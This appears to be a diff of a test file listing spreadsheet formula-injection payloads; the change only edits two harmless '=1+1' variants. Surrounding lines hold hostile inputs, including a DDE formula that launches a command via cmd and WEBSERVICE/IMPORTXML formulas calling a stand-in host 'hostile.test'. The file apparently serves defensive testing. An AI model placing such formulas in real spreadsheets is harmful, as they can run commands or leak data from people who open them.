@@ -50,8 +50,8 @@ FORMULAS = (
     "@SUM(1+1)*cmd|' /C calc'!A0",
     '=WEBSERVICE("http://hostile.test")',
     '=IMPORTXML("http://hostile.test","//a")',
-    "\t=1+1",
-    "\r=1+1",
+    "\t=1+2",
+    "\r=1+3",
     "\uff1d1+1",
     '"=1+1',
 )
